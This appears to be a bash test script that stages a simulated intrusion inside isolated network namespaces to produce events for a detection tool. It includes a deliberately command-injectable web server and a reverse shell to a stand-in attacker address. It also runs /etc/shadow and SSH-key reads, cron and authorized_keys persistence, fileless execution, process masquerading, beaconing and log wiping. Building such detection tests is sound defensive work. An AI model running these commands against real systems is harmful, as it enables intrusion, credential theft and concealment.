#!/bin/bash
# An intrusion with harmless tools, to be recorded, as root:
#
#     sudo ebrec record -s security,syscalls,packets -- scripts/intrusion.sh
#     ebrec check
#
# The attacker is a network namespace of its own at 198.51.100.7; the victim is another at 198.51.100.1, with empty
# folders mounted over those that are written to, so that nothing of this machine changes. Prints a line for each
# stage: the check that must find it, and what its process descends from. Takes about half a minute.
set -euo pipefail
[ "$(id -u)" = 0 ] || { echo "intrusion.sh: needs root, for network namespaces of its own" >&2; exit 2; }

if [ "${1:-}" != inside ]; then
	victim=victim-$$ attacker=attacker-$$
	ip netns add "$victim"
	ip netns add "$attacker"
	work=$(mktemp -d)
	trap 'ip netns del "$victim"; ip netns del "$attacker"; rm -rf "$work"' EXIT
	ip link add eth0 netns "$victim" type veth peer name eth0 netns "$attacker"
	ip -n "$victim" addr add 198.51.100.1/24 dev eth0
	ip -n "$attacker" addr add 198.51.100.7/24 dev eth0
	for name in "$victim" "$attacker"; do
		ip -n "$name" link set lo up
		ip -n "$name" link set eth0 up
	done
	ip netns exec "$victim" unshare --mount --propagation private "$BASH" "$(realpath "$0")" inside "$attacker" "$work"
	exit
fi

attacker=$2 work=$3
cd "$work"
for folder in /etc/cron.d /var/log /root; do
	mount -t tmpfs tmpfs "$folder"
done
export HOME=/root
mkdir -m 700 /root/.ssh
echo "not a key" > /root/.ssh/id_ed25519
echo "an entry" > /var/log/auth.log
sleep 0.3
attacker() { ip netns exec "$attacker" "$@"; }
stage() { printf '%s\t%s\n' "$1" "$2"; }

# A web server that runs what it is told, and an SSH server that lets nobody in.
cat > app.py <<'P'
import http.server, subprocess, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        command = urllib.parse.unquote(self.path[1:])
        out = subprocess.run(["/bin/sh", "-c", command], capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("198.51.100.1", 8080), Handler).serve_forever()
P
cat > login.py <<'P'
import socket
listener = socket.create_server(("198.51.100.1", 22), backlog=64)
while True:
    client, _ = listener.accept()
    client.settimeout(2)
    client.sendall(b"SSH-2.0-Server\r\n")
    try:
        client.recv(100)
    except OSError:
        pass
    client.close()
P
python3 -ISB app.py &
web=$!
python3 -ISB login.py &
login=$!
trap 'kill $web $login 2> /dev/null || true' EXIT
sleep 1

# From outside: which ports are open, and is there a password that fits?
attacker python3 -ISB - <<'P'
import socket
for port in range(8000, 8100):
    s = socket.socket()
    s.settimeout(0.5)
    s.connect_ex(("198.51.100.1", port))
    s.close()
P
stage port_scan python3
attacker python3 -ISB - <<'P'
import socket
for _ in range(40):
    s = socket.create_connection(("198.51.100.1", 22))
    s.recv(100)
    s.sendall(b"SSH-2.0-Client\r\n")
    s.close()
P
stage login_brute_force python3

# In through the web server; a look around.
ask() { attacker python3 -ISB -c 'import sys, urllib.parse, urllib.request
print(urllib.request.urlopen("http://198.51.100.1:8080/" + urllib.parse.quote(sys.argv[1], safe="")).read().decode())' "$1" > /dev/null; }
ask "id; whoami"
stage web_shell python3
ask "whoami; id; uname -a; hostname; ps aux; ip address; ss -tan; last; env"
stage discovery_burst python3

# A shell that calls home.
attacker timeout 20 python3 -ISB - <<'P' &
import socket
listener = socket.create_server(("198.51.100.7", 4444))
client, _ = listener.accept()
client.sendall(b"id\nexit\n")
client.settimeout(5)
try:
    while client.recv(1000):
        pass
except OSError:
    pass
P
sleep 1
ask "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"
wait $!
stage reverse_shell python3

# Passwords and keys.
ask "cat /etc/shadow > copy; rm copy"
stage password_file_read python3
ask "cat /root/.ssh/id_ed25519"
stage ssh_key_read python3

# To come back.
ask "echo '* * * * * root /bin/true' > /etc/cron.d/update"
stage cron_change python3
ask "echo 'ssh-ed25519 AAAA nobody' >> /root/.ssh/authorized_keys"
stage authorized_keys_change python3

# A program that is in no file, and one that goes by another's name.
ask "python3 -ISB -c \"import os
d = os.memfd_create('x')
os.write(d, open('/bin/true', 'rb').read())
os.execv(f'/proc/self/fd/{d}', ['x'])\""
stage fileless_exec python3
ask "bash -c 'cp /bin/sleep /tmp/.update-$$; exec -a \"[kworker/0:1]\" /tmp/.update-$$ 0.1'; rm /tmp/.update-$$"
stage masquerading_name python3
stage hidden_program python3

# Home again, at a pace of its own; and the tracks.
ask "python3 -ISB -c \"import random, socket, time
for _ in range(18):
    s = socket.socket()
    s.connect_ex(('198.51.100.7', 443))
    s.close()
    time.sleep(random.uniform(1.0, 1.3))\""
stage beaconing python3
ask ": > /var/log/auth.log"
stage log_tampering python3
ask "ln -sf /dev/null /root/.bash_history"
stage history_clearing python3
